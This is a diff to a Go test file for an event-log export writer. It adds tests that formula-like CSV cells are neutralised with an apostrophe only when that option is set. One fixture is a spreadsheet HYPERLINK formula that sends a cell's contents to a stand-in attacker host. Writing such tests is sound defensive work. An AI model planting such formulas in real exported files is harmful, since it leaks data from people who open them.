@@ -34,7 +34,7 @@ func TestExportFormatsRoundTripEveryField(t *testing.T) {
 		buf    *bytes.Buffer
 		format string
 	}{{&jl, FormatJSONL}, {&cs, FormatCSV}} {
-		w, err := NewExportWriter(c.buf, c.format)
+		w, err := NewExportWriter(c.buf, c.format, KeepFormulas)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -152,7 +152,7 @@ func TestCSVExportMatchesEncodingCSV(t *testing.T) {
 		"\u00a0nbsp", `\.`, `\.x`, "trailing ", "ünïcödé", `{"k":"v, w"}`, `""`, "\x1b[2J", "\u2028"}
 	var want, got strings.Builder
 	cw := csv.NewWriter(&want)
-	ew, err := NewExportWriter(&got, FormatCSV)
+	ew, err := NewExportWriter(&got, FormatCSV, KeepFormulas)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -175,5 +175,57 @@ func TestCSVExportMatchesEncodingCSV(t *testing.T) {
 	}
 	if got.String() != want.String() {
 		t.Fatalf("CSV differs from encoding/csv:\ngot:\n%q\nwant:\n%q", got.String(), want.String())
+	}
+}
+
+func TestCSVExportNeutralisesFormulasOnlyWhenAsked(t *testing.T) {
+	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	formulas := []string{hyperlink, "+1", "-1+2", "@SUM(A1:A9)", "\tx", "\rx", "=1,2"}
+	inert := []string{"", "plain", "a=b", " =1", "'=1", "{\"k\":\"=v\"}"}
+	export := func(formulas CSVFormulas, fields []string) (string, [][]string) {
+		t.Helper()
+		var out strings.Builder
+		ew, err := NewExportWriter(&out, FormatCSV, formulas)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, f := range fields {
+			e := &Event{Seq: int64(i + 1), At: time.Unix(0, 0), Actor: f, DBRole: f, Action: f, Project: f, Subject: f, Details: f, MACKID: f, PrevMAC: f, MAC: f}
+			if err := ew.Write(e); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := ew.Close(); err != nil {
+			t.Fatal(err)
+		}
+		records, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+		if err != nil {
+			t.Fatalf("not CSV: %v\n%s", err, out.String())
+		}
+		return out.String(), records[1:]
+	}
+
+	all := append(append([]string{}, formulas...), inert...)
+	raw, records := export(NeutraliseFormulas, all)
+	for i, f := range all {
+		want := f
+		if i < len(formulas) {
+			want = "'" + f
+		}
+		for col, got := range records[i][2:] {
+			if got != want {
+				t.Errorf("%q, column %s: got %q, want %q", f, ExportFields[col+2], got, want)
+			}
+		}
+	}
+	if want := `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`; !strings.Contains(raw, want) {
+		t.Errorf("the neutralised cell is not %s:\n%s", want, raw)
+	}
+
+	_, records = export(KeepFormulas, all)
+	for i, f := range all {
+		if got := records[i][2]; got != f {
+			t.Errorf("kept %q as %q", f, got)
+		}
 	}
 }
